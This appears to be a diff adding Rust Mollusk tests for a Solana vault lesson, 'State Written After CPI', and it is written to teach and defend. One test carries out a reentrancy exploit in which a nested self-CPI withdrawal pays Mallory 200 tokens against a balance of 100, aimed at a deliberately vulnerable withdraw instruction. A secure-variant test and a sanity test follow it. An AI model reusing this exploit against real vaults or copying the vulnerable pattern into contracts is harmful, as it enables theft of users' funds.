@@ -0,0 +1,285 @@
+// Mollusk tests for Pattern 38
+/// # Pattern 38: State Written After CPI — Mollusk Exploit Tests
+///
+/// The vault holds 1,000 tokens: Alice's balance is 900 and Mallory's 100.
+/// A withdrawal's callback here is always a second withdrawal of the same
+/// balance, made by CPI from the vault into itself.
+///
+/// - Test 1: EXPLOIT — withdraw_vulnerable(100) with a callback to
+///   withdraw_vulnerable(100) pays Mallory 200 and debits 100.
+/// - Test 2: SECURE — the same nesting through withdraw_secure fails: the
+///   inner call reads the debit the outer one already wrote.
+/// - Test 3: SANITY — Alice's nested withdrawals through withdraw_secure
+///   both land: 200 paid, 200 debited.
+///
+/// The SPL Token program must be built into SBF_OUT_DIR as `spl_token.so`.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::AccountSharedData,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, Ledger,
+};
+use test_harness::token::{token_account, TokenAccount};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("CdwWdWPc4mEGXECAARodNZf2JuwobHJgV4VSK924WY3s");
+const TOKEN_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA");
+
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = 10_000_000_000;
+
+/// Balances, in raw units.
+const ALICE: u64 = 900;
+const MALLORY: u64 = 100;
+const WITHDRAWAL: u64 = 100;
+
+// Error codes
+const INSUFFICIENT_BALANCE: u32 = 6000;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Vault account: [8 disc][32 mint][32 tokens][1 bump]
+fn serialize_vault(mint: &Pubkey, tokens: &Pubkey, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(73);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(mint.as_ref());
+    data.extend_from_slice(tokens.as_ref());
+    data.push(bump);
+    data
+}
+
+/// Serialize a Balance account: [8 disc][32 user][8 amount][1 bump]
+fn serialize_balance(user: &Pubkey, amount: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(49);
+    data.extend_from_slice(&account_discriminator("Balance"));
+    data.extend_from_slice(user.as_ref());
+    data.extend_from_slice(&amount.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+fn system_account() -> AccountSharedData {
+    AccountSharedData::new(WALLET, 0, &solana_sdk::system_program::ID)
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "state_after_cpi");
+    mollusk.add_program(
+        &TOKEN_PROGRAM_ID,
+        "spl_token",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+fn pda(seeds: &[&[u8]]) -> (Pubkey, u8) {
+    Pubkey::find_program_address(seeds, &PROGRAM_ID)
+}
+
+/// A user's balance PDA and token account.
+struct User {
+    key: Pubkey,
+    balance: Pubkey,
+    bump: u8,
+    tokens: Pubkey,
+}
+
+struct Setup {
+    vault: Pubkey,
+    mint: Pubkey,
+    tokens: Pubkey,
+    alice: User,
+    mallory: User,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let (vault, vault_bump) = pda(&[b"vault"]);
+        let (tokens, _) = pda(&[b"tokens"]);
+        let mint = Pubkey::new_unique();
+
+        let mut ledger = vec![
+            (
+                vault,
+                owned_account(
+                    &serialize_vault(&mint, &tokens, vault_bump),
+                    RENT,
+                    &PROGRAM_ID,
+                ),
+            ),
+            (tokens, token_account(&TOKEN_PROGRAM_ID, &mint, &vault, ALICE + MALLORY)),
+            // Callbacks CPI from the vault into itself
+            (
+                PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+            (
+                TOKEN_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+        ];
+        let mut user = |amount: u64| {
+            let key = Pubkey::new_unique();
+            let (balance, bump) = pda(&[b"balance", key.as_ref()]);
+            let user_tokens = Pubkey::new_unique();
+            ledger.extend([
+                (
+                    balance,
+                    owned_account(&serialize_balance(&key, amount, bump), RENT, &PROGRAM_ID),
+                ),
+                (user_tokens, token_account(&TOKEN_PROGRAM_ID, &mint, &key, 0)),
+                (key, system_account()),
+            ]);
+            User {
+                key,
+                balance,
+                bump,
+                tokens: user_tokens,
+            }
+        };
+        let alice = user(ALICE);
+        let mallory = user(MALLORY);
+
+        Self {
+            vault,
+            mint,
+            tokens,
+            alice,
+            mallory,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// `user`: withdraw_*(amount), then invoke `callback` through the vault.
+    fn withdraw(
+        &self,
+        name: &str,
+        user: &User,
+        amount: u64,
+        callback: Option<&Instruction>,
+    ) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+        let callback_data = callback.map_or(&[][..], |ix| &ix.data);
+        data.extend_from_slice(&(callback_data.len() as u32).to_le_bytes());
+        data.extend_from_slice(callback_data);
+
+        let mut accounts = vec![
+            AccountMeta::new_readonly(self.vault, false),
+            AccountMeta::new(self.tokens, false),
+            AccountMeta::new(user.balance, false),
+            AccountMeta::new(user.tokens, false),
+            AccountMeta::new_readonly(user.key, true),
+            AccountMeta::new_readonly(callback.map_or(PROGRAM_ID, |ix| ix.program_id), false),
+            AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+        ];
+        if let Some(ix) = callback {
+            accounts.extend_from_slice(&ix.accounts);
+        }
+        Instruction::new_with_bytes(PROGRAM_ID, &data, accounts)
+    }
+
+    /// `name`(amount) with a callback into `name`(amount) for the same user.
+    fn nested_withdraw(&self, name: &str, user: &User, amount: u64) -> Instruction {
+        let inner = self.withdraw(name, user, amount, None);
+        self.withdraw(name, user, amount, Some(&inner))
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_callback_withdraws_balance_twice_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   Mallory: withdraw_vulnerable(100), callback: withdraw_vulnerable(100)
+    //
+    // Expected: SUCCEEDS. Both calls read a balance of 100 and pay out, and
+    //           the outer call's debit overwrites the inner one's: Mallory
+    //           receives 200 tokens and her balance ends at 0. Alice's 900
+    //           are backed by 800 tokens.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault, tokens, mint) = (s.vault, s.tokens, s.mint);
+    let (mallory, balance, bump, mallory_tokens) = (
+        s.mallory.key,
+        s.mallory.balance,
+        s.mallory.bump,
+        s.mallory.tokens,
+    );
+
+    let paid = TokenAccount::new(&mint, &mallory, 2 * WITHDRAWAL).pack();
+    let debited = serialize_balance(&mallory, 0, bump);
+    let left = TokenAccount::new(&mint, &vault, ALICE + MALLORY - 2 * WITHDRAWAL).pack();
+    let ix = s.nested_withdraw("withdraw_vulnerable", &s.mallory, WITHDRAWAL);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&mallory_tokens).data(&paid).build(),
+            Check::account(&balance).data(&debited).build(),
+            Check::account(&tokens).data(&left).build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_reentrant_withdrawal_sees_debit() {
+    // -----------------------------------------------------------------------
+    // SECURE:
+    //   Mallory: withdraw_secure(100), callback: withdraw_secure(100)
+    //
+    // Expected: FAILS with InsufficientBalance (6000). The outer call wrote
+    //           Mallory's balance of 0 before paying out, and the callback
+    //           reads it. Nothing moves.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+
+    let ix = s.nested_withdraw("withdraw_secure", &s.mallory, WITHDRAWAL);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(INSUFFICIENT_BALANCE))],
+    );
+}
+
+#[test]
+fn sanity_nested_withdrawals_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY:
+    //   Alice: withdraw_secure(100), callback: withdraw_secure(100)
+    //
+    // Expected: SUCCEEDS. Alice receives 200 tokens and her balance is
+    //           debited twice, to 700: the outer call reloads the balance
+    //           the callback wrote instead of overwriting it.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let mint = s.mint;
+    let (alice, balance, bump, alice_tokens) =
+        (s.alice.key, s.alice.balance, s.alice.bump, s.alice.tokens);
+
+    let paid = TokenAccount::new(&mint, &alice, 2 * WITHDRAWAL).pack();
+    let debited = serialize_balance(&alice, ALICE - 2 * WITHDRAWAL, bump);
+    let ix = s.nested_withdraw("withdraw_secure", &s.alice, WITHDRAWAL);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&alice_tokens).data(&paid).build(),
+            Check::account(&balance).data(&debited).build(),
+        ],
+    );
+}